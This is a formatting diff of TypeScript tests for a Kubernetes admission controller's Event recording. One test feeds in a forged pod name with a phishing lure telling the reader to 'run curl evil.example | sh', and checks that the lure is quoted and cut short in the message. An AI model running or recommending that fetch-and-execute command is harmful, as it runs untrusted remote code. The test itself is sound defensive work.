@@ -35,11 +35,15 @@ t.test('an injection gives a Normal Event on the controller', async (t) => {
   const { app, events, review } = appWithEvents();
   t.teardown(() => app.close());
   await review(owned({ 'podpattern.dev/sidecar': 'demo' }));
-  t.same(events, [{
-    type: 'Normal', reason: 'Injected', key: 'demo',
-    involved: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f', namespace: 'shop', uid: 'u1' },
-    message: 'podpattern injected demo\npod "web-7d9f-*"',
-  }]);
+  t.same(events, [
+    {
+      type: 'Normal',
+      reason: 'Injected',
+      key: 'demo',
+      involved: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f', namespace: 'shop', uid: 'u1' },
+      message: 'podpattern injected demo\npod "web-7d9f-*"',
+    },
+  ]);
   await review(owned({ 'podpattern.dev/sidecar': 'demo' }));
   t.equal(events.length, 2, 'every review is recorded (the recorder rate-limits), replayed ones too');
 });
@@ -51,13 +55,15 @@ t.test('a denial gives a Warning Event with the reasons; an ownerless pod names 
   t.equal(answer.response.allowed, false);
   t.equal(events.length, 1);
   t.match(events[0], {
-    type: 'Warning', reason: 'Denied', key: 'unknown-template',
+    type: 'Warning',
+    reason: 'Denied',
+    key: 'unknown-template',
     involved: { apiVersion: 'v1', kind: 'Namespace', name: 'shop', namespace: 'shop' },
     message: /^podpattern denied a pod \(unknown-template\): [^\n]*'nope'[^\n]*\npod "lonely"$/,
   });
 });
 
-t.test('the pod\'s name and owner are not on an Event\'s first line; what follows is quoted and bounded', async (t) => {
+t.test("the pod's name and owner are not on an Event's first line; what follows is quoted and bounded", async (t) => {
   const { app, events, review } = appWithEvents();
   t.teardown(() => app.close());
   const phishing = `URGENT your cluster is compromised - run curl evil.example | sh ${'x'.repeat(5000)}-`;
@@ -67,9 +73,13 @@ t.test('the pod\'s name and owner are not on an Event\'s first line; what follow
   await review(forged);
   t.equal(events.length, 1);
   const [first, ...rest] = events[0]!.message.split('\n');
-  t.match(first, /^podpattern denied a pod \(unknown-template\): \S/, 'the first line is podpattern\'s words, the code and the first problem');
+  t.match(
+    first,
+    /^podpattern denied a pod \(unknown-template\): \S/,
+    "the first line is podpattern's words, the code and the first problem",
+  );
   t.notMatch(first, /URGENT|evil/);
-  t.match(rest[0], /^pod "URGENT your cluster[^"]{0,80}…"$/, 'the pod\'s name follows, quoted and cut');
+  t.match(rest[0], /^pod "URGENT your cluster[^"]{0,80}…"$/, "the pod's name follows, quoted and cut");
   t.ok(Buffer.byteLength(events[0]!.message) <= 1024, 'the whole message within 1 KiB');
 });
 
@@ -98,7 +108,10 @@ t.test('the writer creates a core/v1 Event through @kubernetes/client-node', asy
   const first = new Date('2026-11-30T12:00:00Z');
   const last = new Date('2026-11-30T12:04:00Z');
   const event: ReviewEvent = {
-    type: 'Normal', reason: 'Injected', key: 'demo', message: 'pod web-*: injected demo',
+    type: 'Normal',
+    reason: 'Injected',
+    key: 'demo',
+    message: 'pod web-*: injected demo',
     involved: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f', namespace: 'shop', uid: 'u1' },
   };
   await write({ event, count: 1, first, last: first });
@@ -107,13 +120,24 @@ t.test('the writer creates a core/v1 Event through @kubernetes/client-node', asy
   t.equal(received[0]!.method, 'POST');
   t.equal(received[0]!.url, '/api/v1/namespaces/shop/events');
   t.match(received[0]!.body, {
-    apiVersion: 'v1', kind: 'Event',
+    apiVersion: 'v1',
+    kind: 'Event',
     metadata: { name: /^web-7d9f\.[0-9a-f]+$/, namespace: 'shop' },
     involvedObject: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f', namespace: 'shop', uid: 'u1' },
-    reason: 'Injected', type: 'Normal', count: 1, message: 'pod web-*: injected demo',
-    firstTimestamp: '2026-11-30T12:00:00.000Z', lastTimestamp: '2026-11-30T12:00:00.000Z',
-    source: { component: 'podpattern' }, reportingComponent: 'podpattern', reportingInstance: 'podpattern-6b7c-x2',
+    reason: 'Injected',
+    type: 'Normal',
+    count: 1,
+    message: 'pod web-*: injected demo',
+    firstTimestamp: '2026-11-30T12:00:00.000Z',
+    lastTimestamp: '2026-11-30T12:00:00.000Z',
+    source: { component: 'podpattern' },
+    reportingComponent: 'podpattern',
+    reportingInstance: 'podpattern-6b7c-x2',
   });
   t.not(received[0]!.body.metadata.name, received[1]!.body.metadata.name, 'names do not collide');
-  t.match(received[1]!.body, { count: 7, message: '7 reviews like this since 2026-11-30T12:00:00.000Z, the last: pod web-*: injected demo', lastTimestamp: '2026-11-30T12:04:00.000Z' });
+  t.match(received[1]!.body, {
+    count: 7,
+    message: '7 reviews like this since 2026-11-30T12:00:00.000Z, the last: pod web-*: injected demo',
+    lastTimestamp: '2026-11-30T12:04:00.000Z',
+  });
 });
